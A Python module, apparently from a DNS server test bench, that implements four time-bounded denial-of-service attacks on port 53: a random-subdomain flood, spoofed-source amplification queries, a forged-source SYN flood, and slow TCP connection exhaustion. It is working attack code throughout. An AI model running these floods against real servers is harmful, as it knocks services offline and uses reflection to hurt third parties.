"""The attacks. Each is bounded in time and in packets, and tells what it has sent and got."""

import os
import random
import resource
import socket
import struct
import time

import clients

# All of one /24.
ATTACKERS = [f"203.0.114.{host}" for host in range(1, 11)]
SLOW = [f"203.0.115.{host}" for host in range(1, 6)]
ADDRESSES = ATTACKERS + SLOW
# The network of the victim, of which a well-behaved client is a neighbour.
VICTIMS = bytes([203, 0, 113])

# Of Linux, which Python does not name.
SO_RCVBUFFORCE, ETH_P_IP = 33, 0x0800

SECONDS = clients.SECONDS + 1
RATE = 20_000  # packets per second
BURST = 50
BIG = b"\3big\7example\3com\0"


def paced(send):
    """Calls `send` at the rate; how often."""
    start, sent = time.monotonic(), 0
    while True:
        elapsed = time.monotonic() - start
        if elapsed > SECONDS:
            return sent
        due = min(int(elapsed * RATE), sent + BURST)
        for _ in range(due - sent):
            send()
        if due == sent:
            time.sleep(0.0005)
        sent = due


def drain(sockets, got):
    for opened in sockets:
        while True:
            try:
                reply = opened.recv(4096)
            except BlockingIOError:
                break
            got["truncated" if reply[2] & 2 else "whole"] += 1


def random_names(server):
    """Asks for names that do not exist, from real addresses: whole replies are what it is after."""
    sockets = [clients.udp_socket(address, server) for address in ATTACKERS]
    for opened in sockets:
        opened.setblocking(False)
    got = {"whole": 0, "truncated": 0}
    count = 0

    def send():
        nonlocal count
        count += 1
        name = b"\x0c" + os.urandom(6).hex().encode() + clients.WWW[4:]
        sockets[count % len(sockets)].send(clients.query(count % 65536, name))
        if count % 200 == 0:
            drain(sockets, got)

    sent = paced(send)
    time.sleep(0.5)
    drain(sockets, got)
    return {"sent": sent, **got}


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, server, protocol, payload):
    header = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0, source, server
    )
    # The kernel fills in length and checksum of the header.
    return header + payload


def raw_socket():
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    return raw


def forged_sources(server):
    """Asks for the largest answer in the name of a victim, and of networks at random; counts what
    the victim's network gets."""
    raw = raw_socket()
    # What comes in for others than the neighbour.
    replies = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IP))
    replies.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 64 << 20)
    replies.bind(("clients", ETH_P_IP))
    replies.setblocking(False)
    target = socket.inet_aton(server)
    neighbour = socket.inet_aton(clients.NEIGHBOUR)
    counts = {"sent_for_victim": 0, "octets_for_victim": 0, "octets_to_victim": 0}
    count = 0

    def look():
        while True:
            try:
                octets, place = replies.recvfrom(2048)
            except BlockingIOError:
                return
            goal = octets[16:20]
            if place[2] != socket.PACKET_OUTGOING and goal[:3] == VICTIMS and goal != neighbour:
                counts["octets_to_victim"] += int.from_bytes(octets[2:4], "big")

    def send():
        nonlocal count
        count += 1
        port = random.randrange(1024, 65536)
        message = clients.query(count % 65536, BIG, 16)
        message = message[:11] + b"\1" + message[12:] + struct.pack(">BHHIH", 0, 41, 1232, 0, 0)
        datagram = struct.pack(">HHHH", port, 53, 8 + len(message), 0) + message
        is_victim = count % 2 == 0
        source = VICTIMS + bytes([count // 2 % 64]) if is_victim else bytes([100]) + os.urandom(3)
        octets = packet(source, target, socket.IPPROTO_UDP, datagram)
        raw.sendto(octets, (server, 0))
        if is_victim:
            counts["sent_for_victim"] += 1
            counts["octets_for_victim"] += len(octets)
        if count % 200 == 0:
            look()

    sent = paced(send)
    time.sleep(0.5)
    look()
    return {"sent": sent, **counts}


def half_open(server):
    """Begins connections in the name of others, and never completes them."""
    raw = raw_socket()
    target = socket.inet_aton(server)

    def send():
        source = bytes([100]) + os.urandom(3)
        port = random.randrange(1024, 65536)
        number = random.getrandbits(32)
        segment = struct.pack(">HHIIBBHHH", port, 53, number, 0, 5 << 4, 2, 65535, 0, 0)
        pseudo = source + target + struct.pack(">HH", socket.IPPROTO_TCP, len(segment))
        sum_ = checksum(pseudo + segment)
        segment = segment[:16] + struct.pack(">H", sum_) + segment[18:]
        raw.sendto(packet(source, target, socket.IPPROTO_TCP, segment), (server, 0))

    return {"sent": paced(send)}


CONNECTIONS = 900  # of each slow address
WINDOW = 4096  # octets that a client who does not read has room for


def slow_tcp(server):
    """Opens more connections than there may be: a third begins a message that will not end, a
    third asks and does not read, a third says nothing. All of them go on, an octet at a time."""
    most = len(SLOW) * CONNECTIONS + 100
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, hard), hard))
    big = clients.query(1, BIG, 16)
    opening = b"\xff\xff" + bytes(50_000)
    asking = (struct.pack(">H", len(big)) + big) * 400
    kinds = [opening, asking, b""]
    start, opened, rest = time.monotonic(), [], {}
    for number in range(len(SLOW) * CONNECTIONS):
        if time.monotonic() - start > SECONDS:
            break
        client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, WINDOW)
        client.bind((SLOW[number % len(SLOW)], 0))
        client.setblocking(False)
        client.connect_ex((server, 53))
        opened.append(client)
        if number % 50 == 49:
            advance(opened[-100:], rest, kinds)
    while time.monotonic() - start < SECONDS:
        advance(opened, rest, kinds)
        time.sleep(0.2)
    return {"sent": len(opened)}


def advance(opened, rest, kinds):
    """Sends what each connection still has to send, then an octet."""
    for client in opened:
        number = client.fileno()
        if number < 0:
            continue
        left = rest.setdefault(number, kinds[number % len(kinds)])
        try:
            taken = client.send(left or b"\0")
            rest[number] = left[taken:]
        except BlockingIOError:
            pass
        except OSError:
            client.close()
            rest.pop(number, None)
